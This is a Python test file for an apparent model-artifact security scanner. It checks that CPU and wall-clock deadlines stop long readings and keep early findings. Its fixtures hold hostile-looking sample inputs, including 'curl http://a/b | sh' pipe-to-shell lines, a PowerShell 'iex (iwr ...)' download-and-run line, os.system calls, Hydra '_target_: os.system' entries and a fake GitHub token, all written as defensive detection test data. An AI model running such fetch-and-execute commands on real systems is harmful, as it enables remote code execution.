"""The deadline of an artifact stops loops that compute without reading. The clocks advance whenever the wall clock is read."""

from __future__ import annotations

import json
import math
import time
from collections.abc import Iterator

import pytest
from support.cases import check_each

from modelaudit.model.artifact import Artifact
from modelaudit.model.limits import Limits
from modelaudit.model.outline import Outline
from modelaudit.model.structure import UnreadReason
from modelaudit.pipeline import ArtifactReading
from modelaudit.wire.base import DamagedError, LimitReachedError, Reader
from modelaudit.wire.deadline import (
    CPU_TIME_SPENT,
    WALL_TIME_SPENT,
    Deadline,
    apply_deadline,
    check_deadline,
    iterate_within_deadline,
)
from modelaudit.wire.windows import make_opener

LIMITS = Limits(artifact_cpu_seconds=200, cpu_seconds_per_gib=0)
"""Seconds of ``_Clock``, which equal the number of its readings."""

PYTHON = "import os\nos.system('echo inert')\n" + "".join(f"a{n} = b{n} + 'c'\n" for n in range(20_000))
NOTEBOOK = {
    "cells": [
        {"cell_type": "code", "source": [f"!curl http://a{n} | sh\n"], "metadata": {}, "outputs": []}
        for n in range(1000)
    ],
    "nbformat": 4,
    "nbformat_minor": 5,
    "metadata": {},
}
# Each begins with a line that is reported, and continues so long that the deadline passes before its end.
LARGE = {
    "a.sh": "curl http://a/b | sh\n" + "".join(f"eval 'true {n}{'; true' * 8}'\n" for n in range(150)),
    "repeated.sh": "curl http://a/b | sh\n" + "eval 'true; true; true; true; true; true; true; true; true'\n" * 60,
    "a.ps1": "iex (iwr http://a/b)\n" + "echo 1\n" * 50_000,
    "a.py": PYTHON,
    "broken.py": PYTHON + "print 'a'\n" + PYTHON,
    "a.ipynb": json.dumps(NOTEBOOK),
    "config.json": json.dumps({"auto_map": {"AutoModel": "a.B"}, "all": [{"a": 1}] * 5000}),
    "a.yaml": "_target_: os.system\n" + "a: [b]\n" * 50_000,
    "requirements.txt": "git+http://a/b.git\n" + "a==1\n" * 50_000,
    "a.xml": "<a>" + "<b/>" * 5000 + "</a>",
    "graph.pbtxt": "node { name: 'a' op: 'ReadFile' }\n" + "node { name: 'b' op: 'NoOp' }\n" * 5000,
    "a.toml": "_target_: os.system\n" + "_target_: a\n" * 5000,
    "secrets.txt": "ghp_" + "Zq3Rt9Lm2Xw7" * 3 + "\n" + "http://a:b@c\n" * 5000,
}


class _Clock:
    """Both clocks of a machine without other load: they advance by a second whenever the wall clock is read."""

    def __init__(self) -> None:
        self.now = 0.0

    def monotonic(self) -> float:
        self.now += 1
        return self.now

    def thread_time(self) -> float:
        return self.now


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> _Clock:
    """Replace both clocks of the process by a ``_Clock``."""
    replaced = _Clock()
    monkeypatch.setattr(time, "monotonic", replaced.monotonic)
    monkeypatch.setattr(time, "thread_time", replaced.thread_time)
    return replaced


class _Bytes:
    """A window on bytes in memory."""

    def __init__(self, data: bytes) -> None:
        self._data = data
        self.size = len(data)

    def read(self, offset: int, length: int) -> bytes:
        return self._data[offset : offset + length]


def _read_artifact(name: str, data: bytes, limits: Limits = LIMITS) -> ArtifactReading:
    """Read an artifact of this name with all readers and checks of the pipeline."""
    reading = ArtifactReading(limits)
    reading.run(Artifact(name, len(data), make_opener(_Bytes(data))))
    return reading


def test_loop_that_checks_the_deadline_stops_when_it_passes(clock: _Clock) -> None:
    with apply_deadline(Deadline(3)), pytest.raises(LimitReachedError, match=CPU_TIME_SPENT):
        for _ in range(10):
            check_deadline()
    assert clock.now == 4  # the deadline was made at second 1, and passes 3 seconds later


def test_deadline_counts_only_cpu_time_while_other_processes_use_the_machine(monkeypatch: pytest.MonkeyPatch) -> None:
    now = {"wall": 0.0, "cpu": 0.0}
    monkeypatch.setattr(time, "monotonic", lambda: now["wall"])
    monkeypatch.setattr(time, "thread_time", lambda: now["cpu"])
    deadline = Deadline(10)
    for _ in range(100):  # other processes take nine tenths of the machine
        assert not deadline.has_passed()
        now["wall"] += 1
        now["cpu"] += 0.1
    now["cpu"] = 10.0
    assert deadline.has_passed()
    assert deadline.detail == CPU_TIME_SPENT


def test_deadline_passes_after_its_maximum_wall_time_even_without_cpu_time(monkeypatch: pytest.MonkeyPatch) -> None:
    now = {"wall": 0.0}
    monkeypatch.setattr(time, "monotonic", lambda: now["wall"])
    monkeypatch.setattr(time, "thread_time", lambda: 0.0)
    deadline = Deadline(10, wall_seconds=3600)
    now["wall"] = 3599.0
    assert not deadline.has_passed()
    now["wall"] = 3600.0
    assert deadline.has_passed()
    assert deadline.detail == WALL_TIME_SPENT


def test_expired_deadline_no_longer_applies_after_its_block(clock: _Clock) -> None:
    with apply_deadline(Deadline(-1)), pytest.raises(LimitReachedError):
        check_deadline()
    check_deadline()


def test_iteration_checks_the_deadline_only_before_every_nth_item(clock: _Clock) -> None:
    assert list(iterate_within_deadline(range(10), 4)) == list(range(10))
    assert clock.now == 3  # before items 0, 4 and 8


def test_outer_deadline_applies_again_after_the_inner_block(clock: _Clock) -> None:
    with apply_deadline(Deadline(1000)):
        with apply_deadline(Deadline(-1)) as inner, pytest.raises(LimitReachedError):
            check_deadline()
        assert inner.reached
        check_deadline()


@pytest.mark.parametrize("name", LARGE)
def test_deadline_that_passes_during_a_computation_stops_it_and_leaves_an_absence(name: str, clock: _Clock) -> None:
    reading = _read_artifact(name, LARGE[name].encode())
    spent = [unread for _, unread in reading.unread if CPU_TIME_SPENT in unread.detail]
    assert spent
    assert {unread.reason for unread in spent} == {UnreadReason.LIMIT}
    assert UnreadReason.READER_FAILED not in {unread.reason for _, unread in reading.unread}
    # Readers that follow, and readers that swallow the error, read the clock a few times more.
    assert clock.now < LIMITS.artifact_cpu_seconds + 300


@pytest.mark.parametrize(
    ("name", "expected", "seconds"),
    [
        # So many seconds that the first mention is found and the end of the file is not reached.
        ("a.sh", "http://a/b", 600),
        ("a.ps1", "http://a/b", 400),
        ("a.py", "os.system", 400),
        ("a.ipynb", "curl http://a0", 12_000),
        ("requirements.txt", "git+http://a/b.git", 200),
        ("a.toml", "os.system", 400),
        ("secrets.txt", "GitHub token", 400),
    ],
)
def test_facts_that_a_reader_yields_before_the_deadline_are_kept(
    name: str, expected: str, seconds: int, clock: _Clock
) -> None:
    reading = _read_artifact(
        name,
        LARGE[name].encode(),
        Limits(artifact_cpu_seconds=seconds, cpu_seconds_per_gib=0, artifact_wall_seconds=math.inf),
    )
    assert any(CPU_TIME_SPENT in unread.detail for _, unread in reading.unread)
    names = [
        f"{mention.name} {mention.detail}"
        for _, each in reading.structures
        if isinstance(each, Outline)
        for mention in each.mentions
    ]
    assert any(expected in each for each in names), names[:5]


@check_each("name", LARGE)
def test_reading_that_finishes_before_its_deadline_leaves_no_absence_for_cpu_time(name: str) -> None:
    reading = _read_artifact(name, LARGE[name].encode(), Limits(artifact_cpu_seconds=1e6))
    assert not any(CPU_TIME_SPENT in unread.detail for _, unread in reading.unread)


def _read_despite_deadline(*_: object) -> Iterator[None]:
    """Compute until the deadline passes, and suppress the error, as a faulty reader might."""
    for _ in range(1000):
        try:
            check_deadline()
        except DamagedError:
            break
    return iter(())


def test_expired_deadline_is_reported_even_if_the_reader_suppresses_the_limit_error(clock: _Clock) -> None:
    reading = ArtifactReading(LIMITS)
    data = b"text"

    def read(artifact: Artifact, window: object, depth: int = 0) -> None:
        reading.read_as(Reader("x", lambda head: True, _read_despite_deadline), artifact, _Bytes(data))

    reading.read = read  # type: ignore[method-assign, assignment]
    reading.run(Artifact("a.txt", len(data), make_opener(_Bytes(data))))
    assert [(each.reason, each.detail) for _, each in reading.unread] == [(UnreadReason.LIMIT, CPU_TIME_SPENT)]
